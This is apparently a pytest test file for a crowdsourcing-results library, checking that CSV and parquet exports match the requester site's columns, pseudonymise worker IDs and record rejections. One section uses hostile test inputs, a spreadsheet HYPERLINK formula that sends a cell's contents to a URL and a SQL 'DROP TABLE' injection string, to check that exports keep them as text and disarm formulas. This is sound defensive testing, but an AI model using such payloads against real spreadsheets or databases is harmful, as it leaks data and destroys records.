"""Exports: read with pandas as the scripts do that people have from the requester's site."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

from hitline.acting import exporting, reviewing
from hitline.acting.exporting import Wish
from hitline.errors import HitlineError, InvalidDefinition
from hitline.fields import Text
from hitline.pipeline import Pipeline
from hitline.policies import VoteLead
from hitline.reporting import files, frames
from hitline.store.pseudonyms import pseudonyms
from hitline.store.schema import assignments, items
from tests.contracts.acting.lab import Lab, stage

LAB = Wish(pipeline="lab")
SITE = [
    "HITId",
    "HITTypeId",
    "Title",
    "Description",
    "Keywords",
    "Reward",
    "CreationTime",
    "MaxAssignments",
    "RequesterAnnotation",
    "AssignmentDurationInSeconds",
    "AutoApprovalDelayInSeconds",
    "Expiration",
    "NumberOfSimilarHITs",
    "LifetimeInSeconds",
    "AssignmentId",
    "WorkerId",
    "AssignmentStatus",
    "AcceptTime",
    "SubmitTime",
    "AutoApprovalTime",
    "ApprovalTime",
    "RejectionTime",
    "RequesterFeedback",
    "WorkTimeInSeconds",
    "LifetimeApprovalRate",
    "Last30DaysApprovalRate",
    "Last7DaysApprovalRate",
]


@pytest.fixture
def answered(lab: Lab) -> Lab:
    """Two items, two workers each, all of them approved."""
    lab.launch("a", "b", golds={"": "yes"})
    for hit_id in lab.hits():
        lab.answer(hit_id, "yes", "yes")
    lab.finish()
    return lab


def answers_of(lab: Lab, out: Path, **wish: bool) -> pd.DataFrame:
    exporting.answers(lab.hitline, Wish(pipeline="lab", **wish), out, lab.pipeline)  # type: ignore[arg-type]
    return pd.read_csv(out)


def text_lab(open_lab: Callable[..., Lab]) -> Lab:
    """A lab whose workers write what they like."""
    words = stage(
        "ask",
        answer=Text("answer"),
        redundancy=VoteLead(start=1, lead=1, most=1),
    )
    return open_lab(Pipeline("lab", stages=[words]))


def test_answers_stand_in_the_columns_of_the_requesters_site(answered: Lab, tmp_path: Path) -> None:
    df = answers_of(answered, tmp_path / "out.csv")

    assert list(df.columns) == [
        *SITE,
        "Input.text",
        "Answer.answer",
        "Approve",
        "Reject",
    ]


def test_a_script_for_batch_results_goes_on_working(answered: Lab, tmp_path: Path) -> None:
    df = answers_of(answered, tmp_path / "out.csv")

    df = df[df["AssignmentStatus"] == "Approved"]
    votes = df.groupby("Input.text")["Answer.answer"].agg(lambda said: said.mode()[0])
    assert votes.to_dict() == {"text a": "yes", "text b": "yes"}
    assert df["WorkTimeInSeconds"].dtype == "int64"
    assert df["Reward"].str.lstrip("$").astype(float).sum() == pytest.approx(0.20)
    assert set(df["WorkerId"]) == {"AWORKER1", "AWORKER2"}
    assert df["Approve"].isna().all()


def test_times_read_as_the_site_wrote_them(answered: Lab, tmp_path: Path) -> None:
    df = answers_of(answered, tmp_path / "out.csv")

    for column in ("CreationTime", "AcceptTime", "SubmitTime", "AutoApprovalTime", "ApprovalTime"):
        zone = "P[SD]T"
        assert (
            df[column]
            .str.fullmatch(rf"[A-Z][a-z]{{2}} [A-Z][a-z]{{2}} \d\d \d\d:\d\d:\d\d {zone} \d{{4}}")
            .all()
        ), column


def test_a_workers_approval_rate_is_told_as_on_the_site(answered: Lab, tmp_path: Path) -> None:
    df = answers_of(answered, tmp_path / "out.csv")

    assert set(df["LifetimeApprovalRate"]) == {"100% (2/2)"}


def test_parquet_holds_the_same_with_types(answered: Lab, tmp_path: Path) -> None:
    out = tmp_path / "out.parquet"
    exporting.answers(answered.hitline, LAB, out, answered.pipeline)

    df = pd.read_parquet(out)

    assert df["Answer.answer"].tolist() == ["yes"] * 4
    assert str(df["SubmitTime"].dtype) == "datetime64[us, UTC]"
    assert (df["SubmitTime"] >= df["AcceptTime"]).all()


def test_results_become_final_when_they_are_exported(answered: Lab, tmp_path: Path) -> None:
    done = exporting.results(answered.hitline, LAB, tmp_path / "out.csv", None)

    assert (done.rows, done.final) == (2, 2)
    assert answered.count(items, items.c.final.is_(True)) == 2
    assert exporting.results(answered.hitline, LAB, tmp_path / "out.csv", None).final == 0


def test_results_that_may_still_change_stay_provisional(answered: Lab, tmp_path: Path) -> None:
    wish = Wish(pipeline="lab", provisional=True)

    exporting.results(answered.hitline, wish, tmp_path / "out.csv", None)

    assert answered.count(items, items.c.final.is_(True)) == 0


def test_labels_are_not_final_where_the_file_could_not_be_written(
    answered: Lab, tmp_path: Path
) -> None:
    with pytest.raises(HitlineError, match="cannot be written"):
        exporting.results(answered.hitline, LAB, tmp_path / "missing" / "out.csv", None)

    assert answered.count(items, items.c.final.is_(True)) == 0
    assert list(tmp_path.glob("**/.*.csv")) == []


def test_results_read_with_pandas(answered: Lab, tmp_path: Path) -> None:
    exporting.results(answered.hitline, LAB, tmp_path / "out.csv", None)

    df = pd.read_csv(tmp_path / "out.csv")

    assert df["label"].tolist() == ["yes", "yes"]
    assert df["right"].tolist() == [True, True]
    assert df["cost"].sum() == pytest.approx(0.24)
    assert df["input.text"].tolist() == ["text a", "text b"]


def test_labels_can_be_replayed(answered: Lab, tmp_path: Path) -> None:
    exporting.said(answered.hitline, LAB, tmp_path / "out.csv")

    df = pd.read_csv(tmp_path / "out.csv")

    assert df[["task", "worker", "label"]].values.tolist() == [
        ["a", "AWORKER1", "yes"],
        ["a", "AWORKER2", "yes"],
        ["b", "AWORKER1", "yes"],
        ["b", "AWORKER2", "yes"],
    ]


# Whose answers they are


def test_pseudonyms_replace_worker_ids_and_join_over_exports(answered: Lab, tmp_path: Path) -> None:
    wish = Wish(pipeline="lab", pseudonymous=True)
    exporting.answers(answered.hitline, wish, tmp_path / "answers.csv", answered.pipeline)
    exporting.said(answered.hitline, wish, tmp_path / "labels.csv")

    answers, labels = (pd.read_csv(tmp_path / name) for name in ("answers.csv", "labels.csv"))

    assert set(answers["WorkerId"]) == set(labels["worker"])
    assert len(set(answers["WorkerId"])) == 2
    assert "AWORKER" not in (tmp_path / "answers.csv").read_text(encoding="utf-8")


def test_a_workers_own_id_in_their_answer_is_replaced_as_well(
    open_lab: Callable[..., Lab], tmp_path: Path
) -> None:
    lab = text_lab(open_lab)
    lab.launch("a")
    lab.answer(lab.hits()[0], "I am AWORKER1, hello")
    lab.run()

    df = answers_of(lab, tmp_path / "out.csv", pseudonymous=True)

    assert df["Answer.answer"].tolist() == [f"I am {df['WorkerId'][0]}, hello"]


def test_another_database_gives_other_pseudonyms(
    lab: Lab, new_store: Callable[..., object]
) -> None:
    first = pseudonyms(lab.store)("AWORKER1")
    lab.reopen(new_store())  # type: ignore[arg-type]

    assert pseudonyms(lab.store)("AWORKER1") != first


# What workers wrote


HOSTILE = '=HYPERLINK("http://127.0.0.1/?"&A1),"x"'


def test_hostile_text_stays_the_text_it_is(open_lab: Callable[..., Lab], tmp_path: Path) -> None:
    lab = text_lab(open_lab)
    lab.launch("a")
    lab.answer(lab.hits()[0], f'{HOSTILE}\n"; DROP TABLE items; --')
    lab.run()

    df = answers_of(lab, tmp_path / "out.csv")

    assert df["Answer.answer"].tolist() == [f'{HOSTILE}\n"; DROP TABLE items; --']


def test_for_a_spreadsheet_formulas_are_disarmed(
    open_lab: Callable[..., Lab], tmp_path: Path
) -> None:
    lab = text_lab(open_lab)
    lab.launch("a")
    lab.answer(lab.hits()[0], HOSTILE)
    lab.run()

    df = answers_of(lab, tmp_path / "out.csv", spreadsheet=True)

    assert df["Answer.answer"].tolist() == [f"'{HOSTILE}"]


@pytest.mark.parametrize(
    ("name", "spreadsheet", "field"),
    [
        ("out.xlsx", False, "--out"),
        ("out", False, "--out"),
        ("missing/out.csv", False, "--out"),
        ("out.parquet", True, "--spreadsheet"),
    ],
)
def test_a_file_that_cannot_be_is_refused_before_anything_is_read(
    tmp_path: Path, name: str, spreadsheet: bool, field: str
) -> None:
    with pytest.raises(InvalidDefinition) as refused:
        files.check(tmp_path / name, spreadsheet=spreadsheet)

    assert refused.value.field == field


# Several items in one HIT


def test_a_shared_hit_is_one_row_with_a_number_behind_each_name(
    open_lab: Callable[..., Lab], tmp_path: Path
) -> None:
    lab = open_lab(Pipeline("lab", stages=[stage("ask", items_per_hit=2)]))
    lab.launch("a", "b")
    lab.market.submit(lab.hits()[0], "AWORKER1", **{"answer.1": "yes", "answer.2": "no"})
    lab.run()

    df = answers_of(lab, tmp_path / "out.csv")
    exporting.said(lab.hitline, LAB, tmp_path / "labels.csv")
    labels = pd.read_csv(tmp_path / "labels.csv")

    assert len(df) == 1
    row = df.iloc[0]
    assert (row["Input.text.1"], row["Answer.answer.1"]) == ("text a", "yes")
    assert (row["Input.text.2"], row["Answer.answer.2"]) == ("text b", "no")
    assert labels[["task", "label"]].values.tolist() == [["a", "yes"], ["b", "no"]]


# Frames


def test_frames_are_typed_and_make_nothing_final(answered: Lab) -> None:
    results = frames.results(answered.store, "lab")
    answers = frames.answers(answered.store, "lab")
    labels = frames.labels(answered.store, "lab")

    assert results["label"].tolist() == ["yes", "yes"]
    assert answers["WorkTimeInSeconds"].dtype == "Int64"
    assert labels["counted"].all()
    assert answered.count(items, items.c.final.is_(True)) == 0


def test_of_nothing_only_the_column_names_are_written(lab: Lab, tmp_path: Path) -> None:
    lab.prepare()

    exporting.answers(lab.hitline, LAB, tmp_path / "out.csv", lab.pipeline)

    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file)) == [[*SITE, "Approve", "Reject"]]


def test_a_pipeline_without_its_file_exports_without_titles(answered: Lab, tmp_path: Path) -> None:
    exporting.answers(answered.hitline, LAB, tmp_path / "out.csv", None)

    df = pd.read_csv(tmp_path / "out.csv")

    assert df["Title"].isna().all()
    assert df["AssignmentDurationInSeconds"].tolist() == [600] * 4


def test_a_rejection_is_told_with_its_time_and_what_the_worker_read(
    lab: Lab, tmp_path: Path
) -> None:
    lab.launch("a")
    lab.answer(lab.hits()[0], "no", "yes")
    lab.run()
    assignment = lab.cell(assignments.c.assignment_id, assignments.c.worker_id == "AWORKER1")
    reviewing.reject(lab.hitline, assignment, "The page says yes.")

    df = answers_of(lab, tmp_path / "out.csv").set_index("WorkerId")

    row = df.loc["AWORKER1"]
    assert row["AssignmentStatus"] == "Rejected"
    assert row["RequesterFeedback"] == "The page says yes."
    assert pd.notna(row["RejectionTime"])
    assert pd.isna(row["ApprovalTime"])
    assert row["LifetimeApprovalRate"] == "0% (0/1)"
